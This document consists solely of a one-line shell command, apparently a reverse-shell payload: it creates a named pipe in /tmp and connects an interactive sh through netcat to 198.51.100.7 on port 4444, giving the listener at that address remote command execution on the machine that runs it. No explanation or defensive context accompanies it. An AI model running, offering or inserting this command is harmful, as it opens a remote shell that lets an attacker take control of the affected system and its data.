rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 198.51.100.7 4444 > /tmp/f
